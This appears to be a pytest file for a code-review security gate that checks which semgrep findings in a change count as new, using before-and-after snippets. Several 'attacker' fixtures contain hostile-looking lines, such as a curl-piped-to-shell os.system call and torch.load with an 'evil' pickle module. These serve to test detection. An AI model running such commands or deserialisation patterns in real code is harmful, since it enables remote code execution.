"""What counts as a new semgrep finding (issue #16), with real git and the real pack.

A head hit is old when the base has an unpaired hit of the same rule whose
syntax the head's is derived from by only adding narrowing literal keywords
(``revision=<commit>``, ``check=True``, ...) and deleting plain statements
inside the match (checks/semgrep/identity.py). Every case is one file of one
change, judged by one gate run (two: bases riding along with the heads, and the
second-run strategy that scans only the bases a head hit can be in); each test
names the exact (rule, line) findings its file must get, and the attacker's
cases try to smuggle a real change through each relaxation.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from traingate.checks.semgrep import newness
from traingate.checks.semgrep.hits import Hit
from traingate.findings import Report
from traingate.gate import CheckRequest, check

from .conftest import POLICY, Repo

SHA = "0123456789abcdef0123456789abcdef01234567"

LOAD = 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/m", {kw})\n'
LOAD_LINES = """\
from transformers import AutoModel

model = AutoModel.from_pretrained(
    "org/m",
    trust_remote_code=True,{extra}
)
"""
THREAD = """\
import threading


def beat():
    pass


t = threading.Thread(target=beat)
t.daemon = True
{middle}t.start()
"""
SHELL = 'import subprocess\n\nsubprocess.run("nvidia-smi"{args}, shell=True{kw})\n'
OS = "import os\n\n{line}\n"

TRC = "trust_remote_code=True"

# name: (base, head, the findings the head must get as (rule, line))
CASES: dict[str, tuple[str, str, list[tuple[str, int]]]] = {
    # --- relaxations: the same finding, not new -----------------------------
    "pin_revision": (
        LOAD_LINES.format(extra=""),
        LOAD_LINES.format(extra=f'\n    revision="{SHA}",'),
        [],
    ),
    "pin_code_revision_one_line": (
        LOAD.format(kw=TRC),
        LOAD.format(kw=f'{TRC}, revision="{SHA}", code_revision="{SHA}"'),
        [],
    ),
    "safe_modes": (
        LOAD.format(kw=TRC),
        LOAD.format(
            kw=f'{TRC}, local_files_only=True, use_safetensors=True, torch_dtype="auto", '
            'device_map="auto", low_cpu_mem_usage=True'
        ),
        [],
    ),
    "subprocess_narrowing": (
        SHELL.format(args="", kw=""),
        SHELL.format(
            args="", kw=', check=True, timeout=30, capture_output=True, text=True, encoding="utf-8"'
        ),
        [],
    ),
    "statement_deleted_in_block": (
        THREAD.format(middle='print("starting heartbeat")\n'),
        THREAD.format(middle=""),
        [],
    ),
    "reformatted_and_moved": (
        'import os\n\nos.system("nvidia-smi")\n\n\ndef f():\n    pass\n',
        'import os\n\n\ndef f():\n    pass\n\n\nos.system(\n    "nvidia-smi"\n)\n',
        [],
    ),
    "result_assigned": (
        SHELL.format(args="", kw=""),
        SHELL.format(args="", kw="").replace("subprocess.run", "result = subprocess.run"),
        [],
    ),
    # --- the attacker's side: each is still new ------------------------------
    "command_changed": (
        OS.format(line='os.system("nvidia-smi")'),
        OS.format(line='os.system("curl x | sh")'),
        [("exec-os-command", 3)],
    ),
    "command_changed_in_condition": (
        OS.format(line='if os.system("nvidia-smi") == 0:\n    pass'),
        OS.format(line='if os.system("curl x | sh") == 0:\n    pass'),
        [("exec-os-command", 3)],
    ),
    "callee_parenthesised": (
        OS.format(line='os.system("nvidia-smi")'),
        OS.format(line='(os.system)("curl x | sh")'),
        [("exec-os-command", 3)],
    ),
    "plus_appended": (
        SHELL.format(args="", kw=""),
        SHELL.format(args=" + x", kw=""),
        [("exec-subprocess-shell", 3)],
    ),
    "callee_swapped": (
        SHELL.format(args="", kw=""),
        SHELL.format(args="", kw="").replace("subprocess.run", "subprocess.Popen"),
        [("exec-subprocess-shell", 3)],
    ),
    "pickle_module_added": (
        "import torch\n\nstate = torch.load(path, weights_only=False)\n",
        "import torch\n\nstate = torch.load(path, weights_only=False, pickle_module=evil)\n",
        [("deser-torch-load-unsafe", 3)],
    ),
    "kwargs_added": (
        LOAD.format(kw=TRC),
        LOAD.format(kw=f"{TRC}, **kw"),
        [("remote-trust-remote-code", 3)],
    ),
    "revision_removed": (
        LOAD.format(kw=f'{TRC}, revision="{SHA}"'),
        LOAD.format(kw=TRC),
        [("remote-trust-remote-code", 3)],
    ),
    "revision_changed": (
        LOAD.format(kw=f'{TRC}, revision="{SHA}"'),
        LOAD.format(kw=f'{TRC}, revision="{SHA[::-1]}"'),
        [("remote-trust-remote-code", 3)],
    ),
    "revision_not_a_commit": (
        LOAD.format(kw=TRC),
        LOAD.format(kw=f'{TRC}, revision="refs/pr/1"'),
        [("remote-trust-remote-code", 3)],
    ),
    "allowed_keyword_widening_value": (
        LOAD.format(kw=TRC),
        LOAD.format(kw=f"{TRC}, local_files_only=False"),
        [("remote-trust-remote-code", 3)],
    ),
    "allowed_keyword_non_literal": (
        LOAD.format(kw=TRC),
        LOAD.format(kw=f"{TRC}, revision=pick()"),
        [("remote-trust-remote-code", 3)],
    ),
    "trust_flag": (
        "from transformers import AutoModel\n\nflag = True\n"
        'model = AutoModel.from_pretrained("org/m", trust_remote_code=True)\n',
        "from transformers import AutoModel\n\nflag = True\n"
        'model = AutoModel.from_pretrained("org/m", trust_remote_code=flag)\n',
        [("remote-trust-remote-code", 4)],
    ),
    "statement_added_in_block": (
        THREAD.format(middle=""),
        THREAD.format(middle='t.name = "heartbeat"\n'),
        [("tamper-import-time-thread", 8)],
    ),
    "guard_deleted_in_block": (
        THREAD.format(middle="if not ENABLED:\n    raise SystemExit(0)\n"),
        THREAD.format(middle=""),
        [("tamper-import-time-thread", 8)],
    ),
    "binding_deleted_in_block": (
        THREAD.format(middle="beat = print\n").replace("target=beat)", "target=lambda: beat())"),
        THREAD.format(middle="").replace("target=beat)", "target=lambda: beat())"),
        [("tamper-import-time-thread", 8)],
    ),
    "duplicated_call": (
        OS.format(line='os.system("nvidia-smi")\nprint("done")'),
        OS.format(line='os.system("nvidia-smi")\nprint("done")\nos.system("nvidia-smi")'),
        [("exec-os-command", 5)],
    ),
}


@pytest.fixture(scope="module", params=["one-run", "two-runs"])
def report(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Report]:
    repo = Repo(tmp_path_factory.mktemp("newness") / "repo")
    repo.write(".traingate.yaml", POLICY)
    for name, (base, _, _) in CASES.items():
        repo.write(f"train/{name}.py", base)
    repo.commit("base")
    repo.branch("feature")
    for name, (_, head, _) in CASES.items():
        repo.write(f"train/{name}.py", head)
    repo.commit("change", who="mallory")
    with pytest.MonkeyPatch.context() as mp:
        # Bases ride along with the heads, or (above the limit) go to a second
        # run that scans only the bases a head hit can be in: same answers.
        mp.setattr(newness, "SECOND_RUN_FILES", 1000 if request.param == "one-run" else 0)
        yield check(CheckRequest(repo=repo.path, base="main", head="feature", cache_dir=None))


@pytest.mark.parametrize("name", list(CASES))
def test_newness(report: Report, name: str) -> None:
    assert report.errors == []
    got = sorted(
        (f.rule_id, f.line or 0)
        for f in report.findings
        if f.path == f"train/{name}.py" and f.check == "semgrep"
    )
    assert got == sorted(CASES[name][2])


def test_every_case_parses_on_both_sides() -> None:
    """A case that did not parse would be judged by the text fallback instead."""
    import ast

    for name, (base, head, _) in CASES.items():
        ast.parse(base, filename=f"{name} (base)")
        ast.parse(head, filename=f"{name} (head)")


def _hits_at(text: str, needle: str) -> list[Hit]:
    """A hit of one rule on every occurrence of ``needle``, with semgrep's byte offsets."""
    data = text.encode()
    out, at = [], data.find(needle.encode())
    while at >= 0:
        line = data.count(b"\n", 0, at) + 1
        out.append(
            Hit("r", "ERROR", "m", None, line, 1, line, 1, needle, start=at, end=at + len(needle))
        )
        at = data.find(needle.encode(), at + 1)
    return out


def test_relaxed_pairing_has_a_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past RELAXED_PAIRS derivation checks the remaining head hits stay new:
    a change rewriting thousands of matched calls cannot make the gate quadratic,
    and running out never makes a hit old."""
    base = "".join(f'load("org/m{i}", trust_remote_code=True)\n' for i in range(3))
    head = base.replace("True)", f'True, revision="{SHA}")')
    texts = (head, base)
    new = newness.new_hits(_hits_at(head, "load"), _hits_at(base, "load"), set(), False, texts)
    assert new == []
    monkeypatch.setattr(newness, "RELAXED_PAIRS", 2)
    new = newness.new_hits(_hits_at(head, "load"), _hits_at(base, "load"), set(), False, texts)
    assert [h.line for h in new] == [3]
